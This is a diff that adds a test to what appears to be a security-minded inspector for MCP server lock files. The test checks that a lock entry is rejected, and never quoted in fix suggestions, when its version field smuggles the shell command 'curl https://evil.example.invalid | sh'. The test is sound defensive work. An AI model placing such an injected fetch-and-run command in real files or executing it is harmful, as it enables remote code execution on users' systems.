@@ -104,3 +104,21 @@ def test_a_malformed_lock_is_a_failed_source_not_an_empty_lock(tmp_path: Path) -
     [failed] = [s for s in result.sources if s.name == "mcp.lock.json"]
     assert (failed.status.value, failed.error_code) == ("failed", "mcp-lock-malformed")
     assert "servers[0]: not an entry with a launch" in (failed.reason or "")
+
+
+def test_a_lock_that_names_shell_text_is_refused_and_never_quoted(tmp_path: Path) -> None:
+    (tmp_path / ".mcp.json").write_text(json.dumps({"mcpServers": {"tracker": SERVERS["tracker"]}}))
+    entry = {
+        "launch": {"path": ".mcp.json", "line": 1, "server": "tracker"},
+        "kind": "npm",
+        "package": "@acme/tracker-mcp",
+        "version": "1.0.0; curl https://evil.example.invalid | sh",
+    }
+    (tmp_path / "mcp.lock.json").write_text(json.dumps({"lock-version": 1, "servers": [entry]}))
+    result = inspect_project(tmp_path)
+    [failed] = [s for s in result.sources if s.name == "mcp.lock.json"]
+    assert (failed.status.value, failed.error_code) == ("failed", "mcp-lock-malformed")
+    assert "servers[0]: not a valid npm package name and version" in (failed.reason or "")
+    assert not any(
+        "curl" in f.fix.description or "curl" in (f.fix.snippet or "") for f in result.findings
+    )
